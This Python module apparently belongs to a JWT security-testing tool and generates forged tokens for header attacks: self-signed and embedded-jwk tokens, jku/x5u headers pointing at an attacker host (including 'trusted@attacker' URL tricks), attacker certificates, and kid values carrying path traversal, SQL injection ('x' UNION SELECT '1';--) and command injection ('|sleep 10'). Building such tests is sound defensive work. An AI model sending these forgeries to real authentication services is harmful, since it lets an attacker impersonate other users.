"""Tokens whose header leads the verifier to the attacker's key (RFC 8725, sections 3.10 and 3.11)."""

import base64
from typing import Any
from urllib.parse import urlsplit

from ManuelAuth.forge import keys, signing
from ManuelAuth.forge.catalogue import forgery
from ManuelAuth.forge.encoding import sign
from ManuelAuth.forge.material import Material

UNVERIFIED = "CWE-347"
MALFORMED = "CWE-20"
ATTACKER_KEY_ID = "attacker"
LONG_KEY_ID = 4096


@forgery("self-signed", UNVERIFIED)
def self_signed(material: Material) -> str:
    """Another user's claims, signed with the attacker's key under the pool's key id."""
    return _by_attacker(material)


@forgery("self-signed-without-kid", UNVERIFIED)
def self_signed_without_kid(material: Material) -> str:
    """The same without any key id."""
    header = {name: value for name, value in material.header.items() if name != "kid"}
    return sign(header, material.victims_claims, signing.rs256(keys.attacker_key()))


@forgery("embedded-jwk", UNVERIFIED)
def embedded_jwk(material: Material) -> str:
    """The attacker's key in the header, as `jwk` (CVE-2018-0114)."""
    jwk = keys.to_jwk(keys.attacker_key().public_key(), ATTACKER_KEY_ID)
    return _by_attacker(material, kid=ATTACKER_KEY_ID, jwk=jwk)


@forgery("jku-of-the-attacker", "CWE-918")
def jku_of_the_attacker(material: Material) -> str:
    """A `jku` with the address of the attacker's key set."""
    return _by_attacker(material, kid=ATTACKER_KEY_ID, jku=material.attacker_url)


@forgery("jku-behind-the-pools-name", "CWE-918")
def jku_behind_the_pools_name(material: Material) -> str:
    """A `jku` that begins like the pool's own address: `https://trusted@attacker/`."""
    trusted, attacker = urlsplit(material.key_set_url), urlsplit(material.attacker_url)
    url = f"{attacker.scheme}://{trusted.netloc}@{attacker.netloc}{attacker.path}"
    return _by_attacker(material, kid=ATTACKER_KEY_ID, jku=url)


@forgery("jku-under-the-pools-name", "CWE-918")
def jku_under_the_pools_name(material: Material) -> str:
    """A `jku` whose host name begins with that of the pool: `https://trusted.attacker.example/`."""
    trusted = urlsplit(material.key_set_url)
    return _by_attacker(
        material, kid=ATTACKER_KEY_ID, jku=f"https://{trusted.hostname}.attacker.example/jwks.json"
    )


@forgery("x5u-of-the-attacker", "CWE-918")
def x5u_of_the_attacker(material: Material) -> str:
    """An `x5u` with the address of the attacker's certificate."""
    return _by_attacker(material, kid=ATTACKER_KEY_ID, x5u=material.attacker_url)


@forgery("x5c-of-the-attacker", "CWE-295")
def x5c_of_the_attacker(material: Material) -> str:
    """A certificate in the header that the attacker signed."""
    chain = [base64.b64encode(keys.attacker_certificate()).decode("ascii")]
    return _by_attacker(material, kid=ATTACKER_KEY_ID, x5c=chain)


@forgery("kid-path-traversal", "CWE-22")
def kid_path_traversal(material: Material) -> str:
    """A key id that is the path of an empty file, and HS256 with an empty secret."""
    return material.with_header(signing.hs256(b""), alg="HS256", kid="../../../../../../dev/null")


@forgery("kid-dev-null", "CWE-22")
def kid_dev_null(material: Material) -> str:
    """The same with an absolute path."""
    return material.with_header(signing.hs256(b""), alg="HS256", kid="/dev/null")


@forgery("kid-blank", MALFORMED)
def kid_blank(material: Material) -> str:
    """An empty key id, and HS256 with an empty secret."""
    return material.with_header(signing.hs256(b""), alg="HS256", kid="")


@forgery("kid-sql-injection", "CWE-89")
def kid_sql_injection(material: Material) -> str:
    """A key id that makes a database return the secret `1`, and HS256 with that secret."""
    return material.with_header(signing.hs256(b"1"), alg="HS256", kid="x' UNION SELECT '1';--")


@forgery("kid-command-injection", "CWE-78")
def kid_command_injection(material: Material) -> str:
    """A key id that makes a shell wait ten seconds."""
    return _by_attacker(material, kid="|sleep 10")


@forgery("kid-unknown", UNVERIFIED)
def kid_unknown(material: Material) -> str:
    """A key id that the pool does not have."""
    return _by_attacker(material, kid=ATTACKER_KEY_ID)


@forgery("kid-integer", MALFORMED)
def kid_integer(material: Material) -> str:
    """A number as the key id."""
    return _by_attacker(material, kid=1)


@forgery("kid-null", MALFORMED)
def kid_null(material: Material) -> str:
    """Null as the key id."""
    return _by_attacker(material, kid=None)


@forgery("kid-list", MALFORMED)
def kid_list(material: Material) -> str:
    """A list as the key id, which cannot be looked up in a dictionary."""
    return _by_attacker(material, kid=[material.header["kid"]])


@forgery("kid-object", MALFORMED)
def kid_object(material: Material) -> str:
    """An object as the key id."""
    return _by_attacker(material, kid={"kid": material.header["kid"]})


@forgery("kid-long", "CWE-400")
def kid_long(material: Material) -> str:
    """A key id of 4 kB."""
    return _by_attacker(material, kid="A" * LONG_KEY_ID)


@forgery("critical-extension-unknown", MALFORMED, needs_signing_key=True)
def critical_extension_unknown(material: Material) -> str:
    """An unknown critical extension, which a verifier must refuse (RFC 7515, section 4.1.11)."""
    return material.signed_by_the_pool(
        material.claims, crit=["urn:example:extension"], **{"urn:example:extension": 1}
    )


def _by_attacker(material: Material, **members: Any) -> str:
    return material.with_header(signing.rs256(keys.attacker_key()), **members)
